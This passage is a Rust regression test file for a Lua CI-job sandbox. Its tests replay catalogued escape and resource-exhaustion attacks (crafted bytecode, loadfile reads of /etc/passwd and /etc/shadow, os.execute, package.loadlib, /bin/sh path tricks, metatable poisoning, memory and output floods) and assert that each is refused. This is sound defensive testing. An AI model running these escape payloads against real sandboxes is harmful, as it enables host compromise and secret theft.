//! Security regression tests: one test per attack case of `shared/security/attack-cases.md`
//! (VM-, RES-, PROC-, FS- and NET- rows that concern the sandbox crate). Append-only: every future
//! finding gets a new test under a new ID.
//!
//! Each test runs every variant of its row in its own job and asserts the catalogue's three
//! outcomes: (1) the job fails with the policy named (or, where the row says so, behaves
//! safely), (2) a canary outside the workspace is unchanged and nothing the attack tries to
//! create on the host exists, (3) the same parent then runs a trivial job within 5 s.

mod findings;
mod git;
mod helpers;
mod secrets;
#[allow(dead_code)]
mod server;

use helpers::*;
use rivet_core::JobOutcome;
use rivet_sandbox::events::Source;
use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;

/// Runs each `(label, script, check)` variant in its own job and workspace.
fn each_variant<'a>(
    policy: &rivet_core::Policy,
    test: &str,
    variants: impl IntoIterator<Item = (&'a str, String)>,
    mut check: impl FnMut(&str, &Job, &Path),
) {
    for (label, script) in variants {
        let ws = workspace(test);
        let job = run_job(policy, &pipeline(&script), ws.path());
        check(label, &job, ws.path());
    }
}

// ---------------------------------------------------------------------------------------------
// Lua VM escapes
// ---------------------------------------------------------------------------------------------

#[test]
fn vm_01_bytecode_is_refused() {
    let policy = policy(&[]);
    let canary = Canary::new("vm01");
    // A header like the catalogue's; a real exploit would follow with a corrupting body.
    let evil = r#"local evil = "\27Lua\84\0\25\147\13\10\26\10\4\8\8\120\86\0\0\0\0\0\0\0\0\0\0\0\40\119\64""#;
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "load(string.dump(f))",
            "local f = load(string.dump(function() return 42 end))\nreturn f()".into(),
            "attempt to call a nil value (field 'dump')",
        ),
        (
            "(\"\").dump through the string metatable",
            "local f = load((\"\").dump(function() return 42 end))\nreturn f()".into(),
            "attempt to call a nil value (field 'dump')",
        ),
        (
            "hand-crafted chunk, mode \"b\"",
            format!("{evil}\nlocal f = load(evil, \"=x\", \"b\")\nreturn f()"),
            "policy violation [lua.bytecode]",
        ),
        (
            "hand-crafted chunk, default mode",
            format!("{evil}\nlocal f = load(evil)\nreturn f()"),
            "policy violation [lua.bytecode]",
        ),
        (
            "hand-crafted chunk, mode \"t\" and an env",
            format!("{evil}\nlocal f = load(evil, \"x\", \"t\", {{}})\nreturn f()"),
            "policy violation [lua.bytecode]",
        ),
        (
            "mode \"bt\"",
            "local f = load(\"return 1\", \"=x\", \"bt\")\nreturn f()".into(),
            "policy violation [lua.bytecode]",
        ),
        (
            "mode \"b\" with source text",
            "local f = load(\"return 1\", \"=x\", \"b\")\nreturn f()".into(),
            "policy violation [lua.bytecode]",
        ),
        (
            "non-string mode",
            "local f = load(\"return 1\", \"=x\", 1)\nreturn f()".into(),
            "policy violation [lua.bytecode]",
        ),
        (
            "bytecode through a reader function (forced text mode)",
            format!(
                "{evil}\nlocal parts = {{evil}}\nlocal f, err = load(function() return table.remove(parts) end)\nif not f then error(err, 0) end\nreturn f()"
            ),
            "attempt to load a binary chunk",
        ),
    ];
    for (label, script, needle) in cases {
        let ws = workspace("vm01");
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_failed_with(&job, needle, label);
    }

    // A pipeline submitted as bytecode: the host loads text only.
    let ws = workspace("vm01");
    let job = run_job(
        &policy,
        "\x1bLuaT\x00\x19\x0d\x0a\x1a\x0a\x04\x08\x08xV\x00\x00\x00return {}",
        ws.path(),
    );
    assert!(
        matches!(job.report.outcome, JobOutcome::Failed { .. })
            && job
                .report
                .problems
                .iter()
                .any(|p| p.message.contains("policy violation [lua.bytecode]")),
        "a bytecode pipeline must be refused with [lua.bytecode]\n{}",
        job.describe()
    );

    canary.assert_intact("VM-01");
    assert_follow_up(&policy);
}

#[test]
fn vm_02_dofile_and_loadfile_are_absent() {
    let policy = policy(&[]);
    let canary = Canary::new("vm02");
    let file = lua_str(&canary.file.to_string_lossy());
    let cases: Vec<(&str, String)> = vec![
        (
            "loadfile(/etc/passwd)",
            "return select(2, loadfile(\"/etc/passwd\"))".into(),
        ),
        (
            "loadfile harvesting KEY=\"v\" files",
            format!(
                "local t = {{}}\nlocal f = loadfile({file}, \"t\", t)\nif f then f() end\nlog.info(\"harvested \" .. tostring(t.CANARY_SECRET))"
            ),
        ),
        (
            "pcall(dofile, ...)",
            "local ok, err = pcall(dofile, \"/etc/hostname\")\nif not ok then error(err, 0) end\nlog.info(\"dofile ran\")".into(),
        ),
        (
            "dofile on the canary",
            format!("dofile({file})\nlog.info(\"harvested \" .. tostring(CANARY_SECRET))"),
        ),
        (
            "loadfile through _G",
            format!("local f = _G.loadfile({file})\nlog.info(tostring(f))"),
        ),
    ];
    each_variant(
        &policy,
        "vm02",
        cases.iter().map(|(l, s)| (*l, s.clone())),
        |label, job, _| {
            assert_failed_with(job, "attempt to call a nil value", label);
            assert!(
                !job.logs()
                    .iter()
                    .any(|(_, l)| l.contains(CANARY_TOKEN) || l.contains("harvested")),
                "{label}: the canary was read\n{}",
                job.describe()
            );
        },
    );
    canary.assert_intact("VM-02");
    assert_follow_up(&policy);
}

#[test]
fn vm_03_dangerous_stdlib_is_absent() {
    let policy = policy(&[]);
    let canary = Canary::new("vm03");
    let pwn = trap("vm03", "stdlib");
    let p = lua_str(&pwn.to_string_lossy());
    let c = lua_str(&canary.file.to_string_lossy());
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "os.execute",
            format!("os.execute(\"touch \" .. {p})"),
            "attempt to index a nil value (global 'os')",
        ),
        (
            "os.getenv",
            "log.info(os.getenv(\"HOME\"))".into(),
            "attempt to index a nil value (global 'os')",
        ),
        (
            "io.open for writing",
            format!("io.open({c}, \"w\"):write(\"pwned\")"),
            "attempt to index a nil value (global 'io')",
        ),
        (
            "io.open /etc/shadow",
            "io.open(\"/etc/shadow\")".into(),
            "attempt to index a nil value (global 'io')",
        ),
        (
            "io.popen",
            format!("io.popen(\"touch \" .. {p})"),
            "attempt to index a nil value (global 'io')",
        ),
        (
            "package.loadlib",
            "package.loadlib(\"/lib/x86_64-linux-gnu/libc.so.6\", \"system\")".into(),
            "attempt to index a nil value (global 'package')",
        ),
        (
            "require of a C module",
            "require(\"socket.core\")".into(),
            "policy violation [lua.require]",
        ),
        (
            "require(\"os\")",
            "require(\"os\").execute(\"id\")".into(),
            "policy violation [lua.require]",
        ),
        (
            "require of an undeclared plugin",
            "require(\"plugin.git\")".into(),
            "policy violation [plugin.undeclared]",
        ),
        (
            "debug.sethook",
            "debug.sethook()\nwhile true do end".into(),
            "attempt to index a nil value (global 'debug')",
        ),
        (
            "debug.getregistry",
            "debug.getregistry()".into(),
            "attempt to index a nil value (global 'debug')",
        ),
    ];
    for (label, script, needle) in cases {
        let ws = workspace("vm03");
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_failed_with(&job, needle, label);
    }

    // The globals allow-list: everything a job can reach by name.
    let ws = workspace("vm03");
    let job = run_job(
        &policy,
        &pipeline(
            r#"local names = {}
for k in pairs(_G) do names[#names + 1] = tostring(k) end
table.sort(names)
log.info("GLOBALS " .. table.concat(names, " "))
for _, lib in ipairs({"string", "table", "math", "utf8", "coroutine"}) do
  local fields = {}
  for k in pairs(_G[lib]) do fields[#fields + 1] = tostring(k) end
  table.sort(fields)
  log.info("LIB " .. lib .. " " .. table.concat(fields, " "))
end"#,
        ),
        ws.path(),
    );
    assert_succeeded(&job, "globals listing");
    let lines = job.lines(Source::Script);
    let globals = lines
        .iter()
        .find_map(|l| l.strip_prefix("GLOBALS "))
        .expect("the globals line");
    const ALLOWED: &[&str] = &[
        "_G",
        "_VERSION",
        "assert",
        "collectgarbage",
        "coroutine",
        "env",
        "error",
        "filesystem",
        "getmetatable",
        "ipairs",
        "json",
        "load",
        "log",
        "math",
        "next",
        "pairs",
        "pcall",
        "print",
        "process",
        "rawequal",
        "rawget",
        "rawlen",
        "rawset",
        "require",
        "select",
        "setmetatable",
        "string",
        "table",
        "tonumber",
        "tostring",
        "type",
        "utf8",
        "warn",
        "xpcall",
    ];
    for name in globals.split(' ') {
        assert!(
            ALLOWED.contains(&name),
            "global `{name}` is not on the allow-list\n{globals}"
        );
    }
    for lib in ["string", "table", "math", "utf8", "coroutine"] {
        let fields = lines
            .iter()
            .find_map(|l| l.strip_prefix(&format!("LIB {lib} ")))
            .unwrap_or_else(|| panic!("the `{lib}` line is missing\n{}", job.describe()));
        assert!(!fields.is_empty(), "`{lib}` has no fields");
        if lib == "string" {
            assert!(
                !fields.split(' ').any(|f| f == "dump"),
                "string.dump is present: {fields}"
            );
        }
    }

    canary.assert_intact("VM-03");
    assert_absent(&[&pwn], "VM-03");
    assert_follow_up(&policy);
}

#[test]
fn vm_05_string_metatable_poisoning_does_not_cross_jobs() {
    let policy = policy(&[]);
    let canary = Canary::new("vm05");
    // Each attack runs in job A under pcall; job A itself must see the library intact
    // afterwards, then fail with the attack's error.
    let attacks: Vec<(&str, &str, &str)> = vec![
        (
            "getmetatable(\"\").__index.upper",
            "assert(getmetatable(\"\") == \"locked\", \"the string metatable is not locked\")\ngetmetatable(\"\").__index.upper = evil",
            "attempt to index a nil value",
        ),
        (
            "getmetatable(\"\").__index.format",
            "getmetatable(\"\").__index.format = evil",
            "attempt to index a nil value",
        ),
        (
            "setmetatable on the string metatable",
            "setmetatable(\"\", {__index = {upper = evil}})",
            "table expected",
        ),
        (
            "string.upper =",
            "string.upper = evil",
            "policy violation [lua.readonly]",
        ),
        (
            "string.format and string.gsub =",
            "string.format = evil\nstring.gsub = evil",
            "policy violation [lua.readonly]",
        ),
        (
            "rawset(string, ...)",
            "rawset(string, \"upper\", evil)",
            "policy violation [lua.readonly]",
        ),
        (
            "the library behind pairs(string)",
            "local _, state = pairs(string)\nif type(state) == \"table\" then state.upper = evil; state.format = evil; state.gsub = evil end\nstring.upper = evil",
            "policy violation [lua.readonly]",
        ),
        (
            "the library through a replaced global next",
            "next = function(t, k) leaked = t end\nfor _ in pairs(string) do end\nif type(leaked) == \"table\" then leaked.upper = evil; leaked.format = evil end\nstring.upper = evil",
            "policy violation [lua.readonly]",
        ),
        (
            "table.insert into a library",
            "table.insert(string, evil)",
            "policy violation [lua.readonly]",
        ),
    ];
    for (label, attack, needle) in attacks {
        let script = format!(
            r#"local function evil(...) return "pwned" end
local ok, err = pcall(function()
{attack}
end)
assert(("hello"):upper() == "HELLO", "string.upper was poisoned in job A")
assert(string.format("%d", 7) == "7", "string.format was poisoned in job A")
assert((("abc"):gsub("b", "x")) == "axc", "string.gsub was poisoned in job A")
if ok then error("the attack raised no error", 0) end
error(err, 0)"#
        );
        let ws = workspace("vm05");
        let job_a = run_job(&policy, &pipeline(&script), ws.path());
        assert_failed_with(&job_a, needle, label);
        assert!(
            !job_a.error().contains("was poisoned") && !job_a.error().contains("raised no error"),
            "{label}: job A was poisoned\n{}",
            job_a.describe()
        );

        // Job B on the same parent sees the original library.
        let ws = workspace("vm05");
        let job_b = run_job(
            &policy,
            &pipeline(
                r#"assert(("hello"):upper() == "HELLO", "upper")
assert(string.upper("a") == "A", "string.upper")
assert(string.format("%d", 7) == "7", "format")
assert((("abc"):gsub("b", "x")) == "axc", "gsub")
assert(getmetatable("") == "locked", "metatable")
log.info("job B pristine")"#,
            ),
            ws.path(),
        );
        assert_succeeded(&job_b, &format!("{label}: job B"));
        assert!(job_b.report.duration < FOLLOW_UP_LIMIT);
    }
    canary.assert_intact("VM-05");
    assert_follow_up(&policy);
}

#[test]
fn vm_08_coroutines_share_the_instruction_budget() {
    let policy = policy(&[]);
    let canary = Canary::new("vm08");
    let cases = [
        (
            "coroutine.wrap",
            "return coroutine.wrap(function() local i = 0 while true do i = i + 1 end end)()",
        ),
        (
            "coroutine.resume",
            "local co = coroutine.create(function() while true do end end)\nlocal ok, err = coroutine.resume(co)\nerror(err, 0)",
        ),
        (
            "nested coroutines",
            "coroutine.wrap(function() coroutine.wrap(function() while true do end end)() end)()",
        ),
        (
            "yield ping-pong",
            "local co = coroutine.wrap(function() while true do coroutine.yield() end end)\nwhile true do co() end",
        ),
        (
            "pcall inside a coroutine",
            "coroutine.wrap(function() while true do pcall(function() while true do end end) end end)()",
        ),
        (
            "resume ignoring errors",
            "while true do coroutine.resume(coroutine.create(function() while true do end end)) end",
        ),
    ];
    each_variant(
        &policy,
        "vm08",
        cases.iter().map(|(l, s)| (*l, (*s).to_owned())),
        |label, job, _| assert_vm_stopped_loop(job, &policy, label),
    );
    canary.assert_intact("VM-08");
    assert_follow_up(&policy);
}

#[test]
fn vm_09_pcall_cannot_swallow_the_deadline() {
    let policy = policy(&[]);
    let canary = Canary::new("vm09");
    let cases = [
        (
            "pcall in a loop",
            "while true do pcall(function() while true do end end) end",
        ),
        (
            "nested pcall",
            "while true do pcall(function() while true do pcall(function() while true do end end) end end) end",
        ),
        (
            "xpcall with a looping handler",
            "xpcall(function() while true do end end, function() while true do end end)",
        ),
        (
            "xpcall in a loop with a returning handler",
            "while true do xpcall(function() while true do end end, function(e) return e end) end",
        ),
        (
            "xpcall handler that pcalls a loop",
            "while true do xpcall(function() while true do end end, function(e) while true do pcall(function() while true do end end) end end) end",
        ),
        (
            "pcall of a coroutine",
            "while true do pcall(coroutine.wrap(function() while true do end end)) end",
        ),
        (
            "pcall around string.gsub with a looping callback",
            "while true do pcall(string.gsub, \"aaaa\", \"a\", function() while true do end end) end",
        ),
        (
            "pcall around table.sort with a looping comparator",
            "while true do pcall(table.sort, {3, 2, 1}, function(a, b) while true do end end) end",
        ),
        (
            "load with a looping reader",
            "while true do load(function() while true do end end) end",
        ),
        (
            "pcall(error) in a loop",
            "while true do pcall(error, \"x\") end",
        ),
    ];
    each_variant(
        &policy,
        "vm09",
        cases.iter().map(|(l, s)| (*l, (*s).to_owned())),
        |label, job, _| assert_vm_stopped_loop(job, &policy, label),
    );
    // The wrappers keep the ordinary semantics while the budget lasts.
    let ws = workspace("vm09");
    let job = run_job(
        &policy,
        &pipeline(
            r#"local ok, e = xpcall(function() error("x", 0) end, function(m) return "handled " .. m end)
assert(not ok and e == "handled x", "xpcall handler: " .. tostring(e))
assert(select(2, pcall(error, "y", 0)) == "y", "pcall")
local parts = {"return ", "4", "2"}
local f = load(function() return table.remove(parts, 1) end)
assert(f() == 42, "load with a reader")
assert(coroutine.wrap(function() return 7 end)() == 7, "coroutine.wrap")"#,
        ),
        ws.path(),
    );
    assert_succeeded(&job, "ordinary pcall/xpcall/load semantics");

    canary.assert_intact("VM-09");
    assert_follow_up(&policy);
}

#[test]
fn vm_10_gc_finalizers_are_refused() {
    let policy = policy(&[]);
    let canary = Canary::new("vm10");
    let loop_fn = "function() while true do end end";
    let cases: Vec<(&str, String)> = vec![
        (
            "__gc then collectgarbage()",
            format!("setmetatable({{}}, {{ __gc = {loop_fn} }})\ncollectgarbage()"),
        ),
        (
            "__gc that only fires at teardown",
            format!("_G.keep = setmetatable({{}}, {{ __gc = {loop_fn} }})\nreturn \"ok\""),
        ),
        (
            "pcall(setmetatable) then churn the collector",
            format!(
                "local ok, err = pcall(setmetatable, {{}}, {{ __gc = {loop_fn} }})\nfor i = 1, 200000 do local x = {{i}} end\nerror(err, 0)"
            ),
        ),
        (
            "__gc = true marker",
            "setmetatable({}, { __gc = true })".into(),
        ),
        (
            "collectgarbage(\"collect\")",
            "collectgarbage(\"collect\")".into(),
        ),
        ("collectgarbage(\"stop\")", "collectgarbage(\"stop\")".into()),
        ("collectgarbage(\"step\")", "collectgarbage(\"step\", 0)".into()),
        (
            "collectgarbage(\"incremental\")",
            "collectgarbage(\"incremental\", 0, 0)".into(),
        ),
    ];
    each_variant(
        &policy,
        "vm10",
        cases.iter().map(|(l, s)| (*l, s.clone())),
        |label, job, _| {
            assert_rule(job, "lua.gc", label);
            assert!(
                job.report.duration < FOLLOW_UP_LIMIT,
                "{label}: took {:?}",
                job.report.duration
            );
        },
    );
    // `collectgarbage("count")` stays available.
    let ws = workspace("vm10");
    let job = run_job(
        &policy,
        &pipeline("assert(collectgarbage(\"count\") > 0)"),
        ws.path(),
    );
    assert_succeeded(&job, "collectgarbage(\"count\")");

    canary.assert_intact("VM-10");
    assert_follow_up(&policy);
}

// ---------------------------------------------------------------------------------------------
// Resources
// ---------------------------------------------------------------------------------------------

#[test]
fn res_01_endless_loops_time_out() {
    let policy = policy(&[]);
    let canary = Canary::new("res01");
    let cases = [
        ("while true", "while true do end"),
        ("goto", "::a:: goto a"),
        ("repeat until false", "repeat until false"),
        ("tail calls", "local function f() return f() end\nf()"),
        (
            "mutual tail calls",
            "local g\nlocal function f() return g() end\ng = function() return f() end\nf()",
        ),
        ("numeric for to huge", "for i = 1, math.huge do end"),
        (
            "busy string building",
            "local s = \"\" while true do s = (\"x\"):rep(10) end",
        ),
    ];
    each_variant(
        &policy,
        "res01",
        cases.iter().map(|(l, s)| (*l, (*s).to_owned())),
        |label, job, _| assert_vm_stopped_loop(job, &policy, label),
    );

    // The definition's top level is attacker code too; it has its own budget.
    let ws = workspace("res01");
    let job = run_job(&policy, "while true do end\nreturn {}", ws.path());
    assert!(
        matches!(job.report.outcome, JobOutcome::Failed { .. })
            && job.report.problems.iter().any(|p| {
                p.message.contains("instruction budget exceeded")
                    || p.message.contains("time limit exceeded")
            }),
        "a looping definition must be stopped by its budget\n{}",
        job.describe()
    );

    canary.assert_intact("RES-01");
    assert_follow_up(&policy);
}

#[test]
fn res_02_memory_is_capped() {
    let policy = policy(&[]);
    let canary = Canary::new("res02");
    let cases = [
        ("string.rep 2^30", "local s = string.rep(\"x\", 2^30)\nreturn #s"),
        (
            "doubling concatenation",
            "local s = \"x\"\nwhile true do s = s .. s end",
        ),
        (
            "huge array",
            "local t = {}\nfor i = 1, 1e9 do t[i] = i end",
        ),
        (
            "many tables after collectgarbage(\"stop\") was refused",
            "pcall(collectgarbage, \"stop\")\nlocal t = {}\nfor i = 1, 1e9 do t[i] = {} end",
        ),
        (
            "table.concat of a huge table",
            "local s = string.rep(\"x\", 1 << 20)\nlocal t = {}\nfor i = 1, 1000 do t[i] = s end\nreturn #table.concat(t)",
        ),
        (
            "string.rep with a separator",
            "return #string.rep(\"x\", 1 << 24, string.rep(\"y\", 64))",
        ),
        (
            "json.decode of a huge document",
            "local s = \"[\" .. string.rep(\"1,\", 4000000) .. \"1]\"\nreturn json.decode(s)",
        ),
    ];
    each_variant(
        &policy,
        "res02",
        cases.iter().map(|(l, s)| (*l, (*s).to_owned())),
        |label, job, _| assert_failed_with(job, "not enough memory", label),
    );
    // Lua's own cap on string sizes stops larger requests before any allocation.
    let ws = workspace("res02");
    let job = run_job(
        &policy,
        &pipeline("local s = string.rep(\"x\", 2^31)\nreturn #s"),
        ws.path(),
    );
    assert_failed_with(&job, "resulting string too large", "string.rep 2^31");
    // collectgarbage("stop") itself is refused.
    let ws = workspace("res02");
    let job = run_job(&policy, &pipeline("collectgarbage(\"stop\")"), ws.path());
    assert_rule(&job, "lua.gc", "collectgarbage(\"stop\")");

    canary.assert_intact("RES-02");
    assert_follow_up(&policy);
}

#[test]
fn res_04_catastrophic_patterns_are_killed_at_the_deadline() {
    let mut policy = policy(&[]);
    policy.limits.stage_timeout = Duration::from_secs(1);
    let canary = Canary::new("res04");
    let cases = [
        (
            "string.find",
            "return string.find(string.rep(\"a\", 200), \".-.-.-.-b\")",
        ),
        (
            "gsub on a huge subject",
            "return (string.rep(\"a\", 5e6)):gsub(\"(a-)(a-)(a-)b\", \"%1\")",
        ),
        (
            "gmatch",
            "for m in string.rep(\"a\", 200):gmatch(\".-.-.-.-b\") do end",
        ),
    ];
    // The variants only burn wall-clock time until the parent kills them: run them side by side.
    let jobs: Vec<(&str, Job)> = std::thread::scope(|s| {
        let handles: Vec<_> = cases
            .iter()
            .map(|(label, script)| {
                let policy = &policy;
                s.spawn(move || {
                    let ws = workspace("res04");
                    (*label, run_job(policy, &pipeline(script), ws.path()))
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("variant thread"))
            .collect()
    });
    let hard = policy.limits.stage_timeout + policy.limits.kill_grace;
    for (label, job) in &jobs {
        assert!(
            matches!(job.report.outcome, JobOutcome::TimedOut { .. })
                && job.error().contains("killed"),
            "{label}: expected the worker to be killed at the deadline\n{}",
            job.describe()
        );
        assert!(
            job.report.duration >= hard && job.report.duration < hard + Duration::from_secs(3),
            "{label}: killed after {:?} (hard deadline {hard:?})",
            job.report.duration
        );
    }
    canary.assert_intact("RES-04");
    assert_follow_up(&policy);
}

#[test]
fn res_05_deep_nesting_is_bounded() {
    let policy = policy(&[]);
    let canary = Canary::new("res05");
    let nest = "local t = {}\nfor i = 1, 200000 do t = { t } end\n";
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "json.encode",
            format!("{nest}return json.encode(t)"),
            "policy violation [lua.result]",
        ),
        (
            "json.encode under pcall, then raised",
            format!("{nest}local ok, err = pcall(json.encode, t)\nerror(err, 0)"),
            "policy violation [lua.result]",
        ),
        (
            "process.run args",
            format!("{nest}process.run{{ command = \"git\", args = t }}"),
            "`args[1]` must be a string, got table",
        ),
        (
            "process.run env",
            format!("{nest}process.run{{ command = \"git\", args = {{\"--version\"}}, env = {{ CI = t }} }}"),
            "`env.CI` must be a string, got table",
        ),
        (
            "process.run stdin",
            format!("{nest}process.run{{ command = \"cat\", stdin = t }}"),
            "`stdin` must be a string, got table",
        ),
        (
            "filesystem.write content",
            format!("{nest}filesystem.write(\"x\", t)"),
            "content must be a string, got table",
        ),
        (
            "json.decode of deeply nested text",
            "return json.decode(string.rep(\"[\", 200000) .. string.rep(\"]\", 200000))".into(),
            "recursion limit exceeded",
        ),
        (
            "self-referencing table",
            "local t = {}\nt[1] = t\nreturn json.encode(t)".into(),
            "policy violation [lua.result]",
        ),
    ];
    for (label, script, needle) in cases {
        let ws = workspace("res05");
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_failed_with(&job, needle, label);
    }
    canary.assert_intact("RES-05");
    assert_follow_up(&policy);
}

#[test]
fn res_06_output_floods_are_capped() {
    let mut policy = policy(&["sh", "yes"]);
    policy.log.max_lines = 1000;
    policy.process.max_output = 1 << 20;
    let canary = Canary::new("res06");
    let is_marker = |l: &str| l.starts_with("log truncated");

    // Log floods: one truncation marker, the job continues and finishes.
    let floods = [
        (
            "100 kB lines",
            "local big = string.rep(\"x\", 1e5)\nfor i = 1, 1500 do log.info(big) end\nfilesystem.write(\"after-flood.txt\", \"continued\")",
        ),
        (
            "many short lines",
            "for i = 1, 100000 do log.info(\"line \" .. i) end\nfilesystem.write(\"after-flood.txt\", \"continued\")",
        ),
        (
            "print and warn",
            "for i = 1, 5000 do print(\"p\", i) warn(\"w\", i) end\nfilesystem.write(\"after-flood.txt\", \"continued\")",
        ),
    ];
    for (label, script) in floods {
        let ws = workspace("res06");
        let job = run_job(&policy, &pipeline(script), ws.path());
        assert_succeeded(&job, label);
        let logs = job.logs();
        let markers = logs.iter().filter(|(_, l)| is_marker(l)).count();
        assert_eq!(
            markers,
            1,
            "{label}: expected one truncation marker\n{}",
            job.describe()
        );
        assert!(
            logs.len() as u64 <= policy.log.max_lines + 1,
            "{label}: {} log lines passed a cap of {}",
            logs.len(),
            policy.log.max_lines
        );
        let max_line = policy.log.max_line as usize + 64;
        assert!(
            logs.iter().all(|(_, l)| l.len() <= max_line),
            "{label}: a log line is longer than the line cap"
        );
        assert_eq!(
            std::fs::read_to_string(ws.path().join("after-flood.txt"))
                .ok()
                .as_deref(),
            Some("continued"),
            "{label}: the job did not continue after the flood"
        );
    }

    // Subprocess floods: capture capped, the process killed, the job fails.
    let processes = [
        ("yes", "process.run{ command = \"yes\" }"),
        (
            "stdout without newlines",
            "process.run{ command = \"cat\", args = {\"/dev/zero\"} }",
        ),
        (
            "stderr flood through sh",
            "process.run{ command = \"sh\", args = {\"-c\", \"cat /dev/zero 1>&2\"} }",
        ),
        (
            "flood under pcall, then raised",
            "local ok, err = pcall(process.run, { command = \"yes\" })\nerror(err, 0)",
        ),
    ];
    each_variant(
        &policy,
        "res06",
        processes.iter().map(|(l, s)| (*l, (*s).to_owned())),
        |label, job, _| {
            assert_rule(job, "process.output", label);
            assert!(
                job.report.duration < FOLLOW_UP_LIMIT,
                "{label}: took {:?}",
                job.report.duration
            );
        },
    );
    canary.assert_intact("RES-06");
    assert_follow_up(&policy);
}

#[test]
fn res_09_workspace_quota() {
    let mut policy = policy(&[]);
    policy.filesystem.max_total_write = 1 << 20;
    policy.filesystem.max_write = 512 << 10;
    policy.filesystem.max_entries = 100;
    let canary = Canary::new("res09");
    let chunk = "local chunk = string.rep(\"x\", 256 * 1024)\n";
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "write loop",
            format!("{chunk}for i = 1, 1e6 do filesystem.write(\"fill/\" .. i, chunk) end"),
            "fs.quota",
        ),
        (
            "append loop",
            format!("{chunk}for i = 1, 1e6 do filesystem.append(\"fill.bin\", chunk) end"),
            "fs.quota",
        ),
        (
            "overwrite loop on one file",
            format!("{chunk}for i = 1, 1e6 do filesystem.write(\"same.bin\", chunk) end"),
            "fs.quota",
        ),
        (
            "copy loop",
            format!(
                "{chunk}filesystem.write(\"src.bin\", chunk)\nfor i = 1, 1e6 do filesystem.copy(\"src.bin\", \"copy/\" .. i) end"
            ),
            "fs.quota",
        ),
        (
            "inode exhaustion with empty files",
            "for i = 1, 1e7 do filesystem.write(\"inodes/\" .. i, \"\") end".into(),
            "fs.quota",
        ),
        (
            "inode exhaustion with directories",
            "for i = 1, 1e7 do filesystem.mkdir(\"dirs/\" .. i) end".into(),
            "fs.quota",
        ),
        (
            "deep directory chain",
            "filesystem.mkdir(string.rep(\"d/\", 1000) .. \"x\")".into(),
            "fs.quota",
        ),
        (
            "one oversized write",
            "filesystem.write(\"big.bin\", string.rep(\"x\", 2 * 1024 * 1024))".into(),
            "fs.size",
        ),
    ];
    for (label, script, rule) in cases {
        let ws = workspace("res09");
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_rule(&job, rule, label);
        let (bytes, entries) = usage(ws.path());
        assert!(
            bytes <= policy.filesystem.max_total_write,
            "{label}: {bytes} bytes written, quota {}",
            policy.filesystem.max_total_write
        );
        assert!(
            entries <= policy.filesystem.max_entries,
            "{label}: {entries} entries created, quota {}",
            policy.filesystem.max_entries
        );
    }
    canary.assert_intact("RES-09");
    assert_follow_up(&policy);
}

/// Bytes in regular files and number of entries under `dir`.
fn usage(dir: &Path) -> (u64, u64) {
    let mut bytes = 0;
    let mut entries = 0;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("listing the workspace") {
            let e = e.expect("a directory entry");
            let meta = e.metadata().expect("metadata");
            entries += 1;
            if meta.is_dir() {
                stack.push(e.path());
            } else {
                bytes += meta.len();
            }
        }
    }
    (bytes, entries)
}

// ---------------------------------------------------------------------------------------------
// The process allow-list
// ---------------------------------------------------------------------------------------------

#[test]
fn proc_01_only_bare_allow_listed_names_run() {
    let mut policy = policy(&["sh", "chmod"]);
    // Allowed by name but not installed: a workspace binary must not stand in for it.
    policy.process.allow.push("rivet-missing-tool".into());
    let canary = Canary::new("proc01");
    let pwn = trap("proc01", "payload");
    let p = pwn.to_string_lossy().into_owned();
    let mut checked = 0;
    let cases: Vec<(&str, &str, &str)> = vec![
        (
            "absolute /bin/sh",
            "process.run{ command = \"/bin/sh\", args = {\"-c\", \"touch \" .. PWN .. \"; touch \" .. WS .. \"/PWNED\"} }",
            "policy violation [process.binary]",
        ),
        (
            "relative ../../../../bin/sh",
            "process.run{ command = \"../../../../bin/sh\", args = {\"-c\", \"touch \" .. PWN} }",
            "policy violation [process.binary]",
        ),
        (
            "./git with cwd",
            "process.run{ command = \"./git\", cwd = \"bin\", args = {\"--version\"} }",
            "policy violation [process.binary]",
        ),
        (
            "bin/git",
            "process.run{ command = \"bin/git\", args = {\"--version\"} }",
            "policy violation [process.binary]",
        ),
        (
            "git with PATH=./bin",
            "process.run{ command = \"git\", args = {\"--version\"}, env = { PATH = \"./bin:/usr/bin:/bin\" } }",
            "policy violation [process.env]",
        ),
        (
            "PATH among other names",
            "process.run{ command = \"git\", args = {\"--version\"}, env = { Path = \"./bin\", PATH = \"./bin\" } }",
            "policy violation [process.env]",
        ),
        (
            "a workspace program not on the allow-list",
            "process.run{ command = \"payload\" }",
            "policy violation [process.binary]",
        ),
        (
            "trailing space",
            "process.run{ command = \"git \" }",
            "policy violation [process.binary]",
        ),
        (
            "dot-dot",
            "process.run{ command = \"..\" }",
            "policy violation [process.binary]",
        ),
        (
            "NUL in the name",
            "process.run{ command = \"git\\0/../bin/git\" }",
            "policy violation [process.binary]",
        ),
        (
            "allowed but not installed, payload in cwd",
            "process.run{ command = \"rivet-missing-tool\", cwd = \"bin\" }",
            "not installed",
        ),
    ];
    let prelude = |ws: &Path| {
        let ws_s = lua_str(&ws.to_string_lossy());
        let payload = format!("#!/bin/sh\ntouch {p}\ntouch {}/PWNED\n", ws.display());
        format!(
            "local WS = {ws_s}\nlocal PWN = {}\nfor _, name in ipairs({{\"bin/git\", \"bin/payload\", \"bin/rivet-missing-tool\", \"payload\", \"git\"}}) do\n  filesystem.write(name, {})\n  process.run{{ command = \"chmod\", args = {{\"+x\", name}} }}\nend\n",
            lua_str(&p),
            lua_str(&payload)
        )
    };
    for (label, attack, needle) in &cases {
        let ws = workspace("proc01");
        let script = format!("{}{attack}", prelude(ws.path()));
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_failed_with(&job, needle, label);
        assert_absent(&[&ws.path().join("PWNED"), &pwn], label);
        checked += 1;
    }
    assert_eq!(checked, cases.len());

    // A bare allowed name runs the program resolved at start, whatever the cwd holds.
    let ws = workspace("proc01");
    let script = format!(
